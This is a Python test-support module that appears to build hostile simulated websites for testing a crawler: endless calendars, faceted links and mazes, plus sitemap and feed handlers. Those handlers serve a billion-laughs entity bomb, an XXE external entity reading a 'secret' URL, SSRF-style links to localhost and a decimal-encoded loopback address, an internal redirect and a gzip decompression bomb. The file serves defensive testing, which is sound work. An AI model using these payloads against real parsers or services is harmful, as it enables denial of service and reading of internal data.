"""Sites without an end: calendars, faceted searches, mazes, listings of listings. Nothing here is ever an article."""

from __future__ import annotations

import gzip
import random
from datetime import date, timedelta
from urllib.parse import parse_qsl, urlencode, urlsplit

from tests.support.site.hostile import Exchange, Route, good
from tests.support.site.sized import WORDS, title
from tests.unit.cleaners.pages import html

XML = "text/xml"


def listing(links: dict[str, str], title: str = "Archive") -> str:
    """A page of links and nothing else."""
    return html(
        f"<h1>{title}</h1><ul>"
        + "".join(f"<li><a href='{href}'>{text}</a></li>" for href, text in links.items())
        + "</ul>",
        title=title,
    )


def calendar(exchange: Exchange) -> None:
    """Every day leads to the next ten."""
    said = exchange.path.removeprefix("/calendar/").strip("/").replace("/", "-")
    day = date.fromisoformat(said) if said[:1].isdigit() else date(2026, 11, 1)
    days = [day + timedelta(days=n) for n in range(1, 11)]
    exchange.send(
        listing({f"/calendar/{one:%Y/%m/%d}/": f"All that happens in the town on {one:%d %B %Y}" for one in days})
    )


def facets(exchange: Exchange) -> None:
    """Each choice leads to each other choice."""
    chosen = dict(parse_qsl(urlsplit(exchange.path).query))
    links = {}
    for name in ("colour", "size", "order", "year", "place"):
        for value in range(1, 9):
            links[f"/stories-by-choice?{urlencode({**chosen, name: value})}"] = (
                f"All the stories of the lock by {name} number {value}"
            )
    exchange.send(listing(links))


def maze(exchange: Exchange) -> None:
    """Each page leads to twenty that nobody ever saw."""
    dice = random.Random(exchange.path)
    links = {}
    for _ in range(20):
        words = [dice.choice(WORDS) for _ in range(6)]
        links[f"/maze/{'-'.join(words)}-{dice.randrange(10**6)}"] = " ".join(words)
    exchange.send(listing(links))


def wild_maze(exchange: Exchange) -> None:
    """The same, each under a section of its own."""
    dice = random.Random(exchange.path)
    links = {}
    for _ in range(20):
        words = [dice.choice(WORDS) for _ in range(6)]
        links[f"/wild/{dice.choice(WORDS)}{dice.randrange(10**9)}/{'-'.join(words)}"] = " ".join(words)
    exchange.send(listing(links))


def growing(exchange: Exchange) -> None:
    """A relative link that grows with each step, among others that do not."""
    deeper = exchange.path.rstrip("/")
    others = {good(number): title(number) for number in range(12)}
    exchange.send(
        listing({f"{deeper}/the-lock-and-its-keepers/": "The lock and its keepers, told again and again", **others})
    )


def index(exchange: Exchange) -> None:
    """An index of indexes."""
    deeper = "".join(
        f"<sitemap><loc>http://{exchange.address}{exchange.path.removesuffix('.xml')}/{n}.xml</loc></sitemap>"
        for n in range(5)
    )
    exchange.send(
        f"<sitemapindex xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>{deeper}</sitemapindex>", kind=XML
    )


def laughs(exchange: Exchange) -> None:
    bomb = (
        "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>"
        + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
        + "]>"
    )
    exchange.send(f"{bomb}<urlset><url><loc>http://{exchange.address}/&j;</loc></url></urlset>", kind=XML)


def external(exchange: Exchange) -> None:
    declared = (
        f"<!DOCTYPE x SYSTEM 'http://{exchange.canary}/x.dtd' [<!ENTITY a SYSTEM 'http://{exchange.canary}/secret'>]>"
    )
    exchange.send(
        f"{declared}<rss version='2.0'><channel><item><title>&a;</title><link>http://{exchange.address}/&a;</link></item></channel></rss>",
        kind="application/rss+xml",
    )


def neighbours(exchange: Exchange) -> list[str]:
    """Addresses of the house next door, and one of our own that leads there."""
    port = exchange.canary.rpartition(":")[2]
    return [
        f"http://{exchange.canary}/secret-of-a-listing-1",
        f"http://localhost:{port}/secret-of-a-listing-2",
        f"http://2130706433:{port}/secret-of-a-listing-3",
    ]


def feed_next_door(exchange: Exchange) -> None:
    items = "".join(
        f"<item><title>A story next door</title><link>{place}</link></item>" for place in neighbours(exchange)
    )
    exchange.send(
        f"<rss version='2.0'><channel><link>http://{exchange.canary}/</link>{items}</channel></rss>",
        kind="application/rss+xml",
    )


def map_next_door(exchange: Exchange) -> None:
    exchange.send(
        "<urlset>" + "".join(f"<url><loc>{place}</loc></url>" for place in neighbours(exchange)) + "</urlset>", kind=XML
    )


def index_next_door(exchange: Exchange) -> None:
    exchange.send(
        "<sitemapindex>"
        + "".join(f"<sitemap><loc>{place}.xml</loc></sitemap>" for place in neighbours(exchange))
        + "</sitemapindex>",
        kind=XML,
    )


def listing_elsewhere(exchange: Exchange) -> None:
    """A feed or sitemap that is said to be next door."""
    exchange.redirect(f"http://{exchange.canary}/secret-listing.xml")


def deep_feed(exchange: Exchange) -> None:
    """feedparser takes the square of this."""
    exchange.send("<rss version='2.0'><channel>" + "<a>" * 400_000, kind="application/rss+xml")


def packed_bomb(exchange: Exchange) -> None:
    exchange.send(gzip.compress(b"<urlset>" + b" " * 200_000_000), kind="application/gzip")


def junk(exchange: Exchange) -> None:
    exchange.send("<urlset><url>" + "<a/>" * 1_000_000, kind=XML)


SITEMAPS = {
    "/maps/index.xml": index,
    "/maps/laughs.xml": laughs,
    "/maps/bomb.xml.gz": packed_bomb,
    "/maps/junk.xml": junk,
    "/maps/index/": index,
    "/maps/next-door.xml": map_next_door,
    "/maps/index-next-door.xml": index_next_door,
    "/maps/elsewhere.xml": listing_elsewhere,
}
FEEDS = {
    "/feeds/external": external,
    "/feeds/deep": deep_feed,
    "/feeds/next-door": feed_next_door,
    "/feeds/elsewhere": listing_elsewhere,
}

ROUTES = (
    Route("leads-into-an-endless-calendar", calendar, "page_type/listing", {"/calendar/": calendar}),
    Route("leads-into-an-endless-choice", facets, "page_type/listing", {"/stories-by-choice": facets}),
    Route("leads-into-an-endless-maze", maze, "page_type/listing", {"/maze/": maze}),
    Route("leads-into-a-maze-of-sections", wild_maze, "page_type/listing", {"/wild/": wild_maze}),
    Route("grows-with-each-step-taken", growing, "page_type/listing"),
)
